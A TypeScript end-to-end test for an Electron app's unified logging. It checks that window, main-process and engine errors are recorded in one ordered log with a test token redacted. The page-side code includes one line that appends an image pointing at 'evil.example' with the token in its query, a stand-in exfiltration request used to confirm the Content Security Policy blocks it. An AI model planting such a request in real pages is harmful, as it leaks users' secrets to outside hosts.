import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { mainLogFile } from '../../shared/log/main-log-file.ts';
import { LogEntry } from '../../shared/model/log-entry.ts';
import { DesktopApp } from './support/desktop-app.ts';
import { filesWith } from './support/files-with.ts';
import { engineProcess } from './support/processes.ts';

const SECRET = '0123456789abcdef0123456789abcdef';
const TOKEN = `shpat_${SECRET}`;

/** What main and window have written today. */
function lines({ home }: DesktopApp): LogEntry[] {
  const file = join(home, 'logs', mainLogFile(new Date().toISOString().slice(0, 10)));
  const text = readFileSync(file, 'utf8').trimEnd();
  return text.split('\n').map((line) => LogEntry.parse(JSON.parse(line)));
}

async function line(app: DesktopApp, source: LogEntry['source'], part: string): Promise<LogEntry> {
  const find = () =>
    lines(app).find((entry) => entry.source === source && JSON.stringify(entry).includes(part));
  await expect.poll(find).toBeDefined();
  return find() as LogEntry;
}

it('writes what goes wrong in the window, in main and with the engine into one log, without secrets', async () => {
  await using app = await DesktopApp.launch();
  const printed: string[] = [];
  app.process.stderr?.on('data', (data) => printed.push(String(data)));
  await app.ready();
  expect(await line(app, 'main', 'is started')).toMatchObject({
    level: 'info',
    data: { platform: process.platform },
  });
  expect(await line(app, 'main', 'The engine is ready')).toMatchObject({ level: 'info' });

  await app.page.evaluate((token) => {
    setTimeout(() => {
      throw new Error(`uncaught in the page ${token}`);
    });
    void Promise.reject(new Error(`unhandled in the page ${token}`));
    // biome-ignore lint/suspicious/noConsole: that it reaches the log is what is tested.
    console.error(`said on the console ${token}`, new Error(`with a stack ${token}`));
    const image = document.createElement('img');
    image.src = `https://evil.example/?token=${token}`;
    document.body.append(image);
  }, TOKEN);
  expect(await line(app, 'window', 'uncaught in the page')).toMatchObject({ level: 'error' });
  expect(await line(app, 'window', 'unhandled in the page')).toMatchObject({ level: 'error' });
  expect((await line(app, 'window', 'said on the console')).message).toContain('with a stack');
  expect(await line(app, 'window', 'Content Security Policy')).toMatchObject({ level: 'error' });

  await app.electron.evaluate((_electron, token) => {
    setTimeout(() => {
      throw new Error(`uncaught in main ${token}`);
    });
    void Promise.reject(new Error(`unhandled in main ${token}`));
  }, TOKEN);
  expect(await line(app, 'main', 'uncaught in main')).toMatchObject({ level: 'error' });
  expect(await line(app, 'main', 'unhandled in main')).toMatchObject({ level: 'error' });

  process.kill(await engineProcess(app), 'SIGKILL');
  expect(await line(app, 'main', 'ended by itself')).toMatchObject({ level: 'error', data: { losses: 1 } });
  await app.page.waitForFunction(() => {
    const last = bulkhead.statuses.at(-1);
    return last?.state === 'ready' && last.losses === 1;
  });

  // One stream, in the order of time, whoever wrote: the engine tells of its loss as well.
  const read = await app.page.evaluate(async () => {
    const stream = await bulkhead.engine.logs.read({ level: 'debug', limit: 1_000 });
    const entries: { source: string; time: string }[] = [];
    for await (const portion of stream) entries.push(...portion);
    return entries;
  });
  expect(new Set(read.map(({ source }) => source))).toEqual(new Set(['main', 'window', 'engine']));
  expect(read.map(({ time }) => time)).toEqual(read.map(({ time }) => time).toSorted());

  await app.close();
  expect(await line(app, 'main', 'is quit')).toMatchObject({ level: 'info' });
  expect(filesWith(join(app.home, 'logs'), SECRET)).toEqual([]);
  expect(printed.join('')).toContain('uncaught in main');
  expect(printed.join('')).not.toContain(SECRET);
});
